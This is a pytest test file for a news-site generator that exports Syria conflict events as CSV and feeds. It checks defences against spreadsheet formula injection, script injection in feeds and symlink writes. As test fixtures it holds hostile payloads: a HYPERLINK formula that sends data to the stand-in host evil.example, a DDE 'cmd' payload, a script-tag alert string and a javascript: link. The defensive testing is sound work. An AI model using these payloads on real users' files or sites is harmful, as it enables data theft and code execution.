"""A real build's machine outputs, opened as their readers open them: the CSV in a spreadsheet, the feeds in a
feed reader; and the importer run as an editor runs it."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import feedparser
import pytest
from mkdocs.exceptions import Abort

from generator.records.content import load_content
from generator.outputs.acled_csv import COLUMNS, NUMERIC
from generator.importers.acled import import_acled

SITE_URL = "https://news.example.org/"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def runs_as_formula(cell: str) -> bool:
    """OWASP's list, as a spreadsheet reads a cell: a leading ' makes it text."""
    if cell.startswith("'"):
        return False
    return cell[:1] in ("\t", "\r", "\0") or cell.lstrip(" \t\r\n\"")[:1] in ("=", "+", "-", "@")


@pytest.fixture
def formulas(project):
    with (project.root / "mkdocs.yml").open("a", encoding="utf-8") as out:
        out.write(f"site_url: {SITE_URL}\n")
    project.write("actors.yml", f"""\
        hts:
          name: '{HYPERLINK.replace("'", "''")}'
          kind: rebel-group
        syrian-army:
          name: "+cmd|' /C calc'!A0"
          kind: state-forces
        """)
    project.write("places.yml", """\
        west:
          name: "-2+3 village"
          country: SY
          admin1: "@admin"
          lat: -12.5
          lon: -45.25
        """)
    project.event("strike", "2024-11-28", "Air strike", place="west", actors="[hts, syrian-army]",
                  summary='"@SUM(1+1) was written on the wall; =1+1 too"', type="battle", subtype="armed-clash",
                  sources="[{title: Wire, publisher: '-Reuters'}]", fatalities="{best: 3}")
    project.event("advance", "2024-11-27", "Rebels advance")
    project.build()
    return project


def cells(project) -> list[dict]:
    text = (project.site / "explainers/rebels/data/events.csv").read_text(encoding="utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_that_look_like_formulas_open_as_text(formulas):
    rows = cells(formulas)
    strike = next(row for row in rows if row["event_id_cnty"] == "strike")
    assert strike["actor1"] == "'" + HYPERLINK
    assert strike["actor2"] == "'+cmd|' /C calc'!A0"
    assert strike["location"] == "'-2+3 village" and strike["admin1"] == "'@admin"
    assert strike["source"] == "'-Reuters"
    assert strike["notes"] == "'@SUM(1+1) was written on the wall;' =1+1 too"
    assert (strike["latitude"], strike["longitude"], strike["fatalities"]) == ("-12.5000", "-45.2500", "3")
    for row in rows:
        for column in COLUMNS:
            if column not in NUMERIC:
                assert not runs_as_formula(row[column]), (column, row[column])
    raw = (formulas.site / "explainers/rebels/data/events.csv").read_text(encoding="utf-8")
    for line in raw.splitlines():  # opened where the list separator is ';' (much of Europe)
        for cell in next(csv.reader([line], delimiter=";"))[1:]:
            assert not runs_as_formula(cell), cell


def test_csv_round_trip_gives_back_the_text_not_the_quotes(formulas, tmp_path):
    docs = tmp_path / "imported"
    docs.mkdir()
    report = import_acled(formulas.site / "explainers/rebels/data/events.csv", docs)
    assert report.ok, report.problems
    assert report.warnings  # said, not silent: these cells were marked as text
    imported = load_content(docs, tmp_path)
    assert imported.problems == []
    strike = imported.events["strike"]
    assert strike.summary == "@SUM(1+1) was written on the wall; =1+1 too"
    assert {imported.actors[a].name for a in strike.actors} == {HYPERLINK, "+cmd|' /C calc'!A0"}
    place = imported.places[strike.place]
    assert (place.name, place.admin1, place.lat, place.lon) == ("-2+3 village", "@admin", -12.5, -45.25)
    assert [s.publisher for s in strike.sources] == ["-Reuters"]
    # Exported again, the file is the same: the round trip is stable.
    again = docs / "again.csv"
    from generator.outputs import acled_csv

    again.write_text(acled_csv.to_csv(imported, [strike]), encoding="utf-8")
    row = next(csv.DictReader(again.open(encoding="utf-8")))
    original = next(r for r in cells(formulas) if r["event_id_cnty"] == "strike")
    for column in ("actor1", "actor2", "location", "admin1", "source", "notes", "latitude", "longitude"):
        assert row[column] == original[column], column


MARKUP = "Hama ]]> falls </script><script>alert(1)</script> <![CDATA[ & <entry>"


def test_feeds_with_markup_like_text_parse_and_show_the_text(project):
    with (project.root / "mkdocs.yml").open("a", encoding="utf-8") as out:
        out.write(f"site_url: {SITE_URL}\n")
    project.event("hama", "2024-12-05", f'"{MARKUP}"', summary=f'"Summary: {MARKUP}"',
                  corrections=f'[{{at: "2024-12-06T10:00+03:00", text: "Fixed: {MARKUP}"}}]')
    project.build()
    for path in ("feed.atom", "explainers/rebels/data/feed.atom"):
        data = (project.site / path).read_bytes()
        ET.fromstring(data)
        parsed = feedparser.parse(data)
        assert not parsed.bozo, parsed.bozo_exception
        titles = [e.title for e in parsed.entries]
        assert MARKUP in titles and f"Correction: {MARKUP}" in titles
        entry = next(e for e in parsed.entries if e.title == MARKUP)
        assert "<script>" not in entry.summary and "&lt;/script&gt;&lt;script&gt;" in entry.summary
    for path in ("feed.json", "explainers/rebels/data/feed.json"):
        items = json.loads((project.site / path).read_text(encoding="utf-8"))["items"]
        assert MARKUP in [item["title"] for item in items]
        assert all("<script>" not in item["content_html"] for item in items)


def test_a_control_character_never_breaks_the_site_feed(project, problems_logged):
    # The case: "\u0001" written as a YAML escape. The content checks may refuse it (then nothing is
    # built and the file is named); if they let it through, every feed must still be well-formed.
    project.event("ok", "2024-11-27", "A valid event")
    project.event("bad", "2024-11-28", '"Rebels\\u0001 advance"', summary='"Text\\u0001 here"',
                  corrections='[{at: "2024-11-29T10:00+03:00", text: "Wrong\\u0001 day"}]')
    try:
        project.build()
    except Abort:
        assert any("content/events/bad.yml" in line for line in problems_logged()), problems_logged()
        return
    for path in ("feed.atom", "explainers/rebels/data/feed.atom"):
        data = (project.site / path).read_bytes()
        ET.fromstring(data)
        parsed = feedparser.parse(data)
        assert not parsed.bozo, parsed.bozo_exception
        assert "Rebels advance" in [e.title for e in parsed.entries]
    for path in ("feed.json", "explainers/rebels/data/feed.json"):
        json.loads((project.site / path).read_text(encoding="utf-8"))


def test_import_command_reports_row_problems_and_writes_nothing_through_a_link(project, tmp_path):
    row = {column: "" for column in COLUMNS}
    row.update({"event_id_cnty": "SYR9001", "event_date": "2024-12-05", "event_type": "Battles",
                "sub_event_type": "Armed clash", "iso": "760", "country": "Syria", "location": "Hama",
                "notes": "Clashes near Hama.", "source": "Reuters"})
    path = project.root / "acled.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerow(row)
        writer.writerow({**row, "event_id_cnty": "SYR9002", "notes": "=1+1"})
        writer.writerow({**row, "event_id_cnty": "SYR9003", "notes": "[map](javascript:alert(1))"})
        writer.writerow({**row, "event_id_cnty": "syr9001", "notes": "Other text."})
        writer.writerow({**row, "event_id_cnty": "SYR9004"})
    result = project.run("generator.cli", "import", "acled", str(path))
    assert result.returncode == 1 and "Traceback" not in result.stdout + result.stderr
    shown = path.as_posix()
    assert f"{shown}:3: row 3: notes starts with '=', so a spreadsheet would run '=1+1' as a formula" in result.stdout
    assert f"{shown}:4: row 4: notes links to 'javascript:alert(1'" in result.stdout
    assert (f"{shown}:5: row 5: event_id_cnty 'syr9001' is the id 'syr9001', which row 2 (line 2) already has "
            "(as 'SYR9001'), but the rows differ, so neither was imported") in result.stdout
    assert sorted(p.name for p in (project.content / "events/acled").glob("*")) == ["syr9004.yml"]

    outside = tmp_path / "outside"
    outside.mkdir()
    (project.content / "events/acled/syr9004.yml").unlink()
    (project.content / "events/acled").rmdir()
    (project.content / "events/acled").symlink_to(outside, target_is_directory=True)
    result = project.run("generator.cli", "import", "acled", str(path))
    assert result.returncode == 1 and "Traceback" not in result.stdout + result.stderr
    assert "events/acled: is a link to" in result.stdout and "nothing was imported" in result.stdout
    assert list(outside.iterdir()) == []
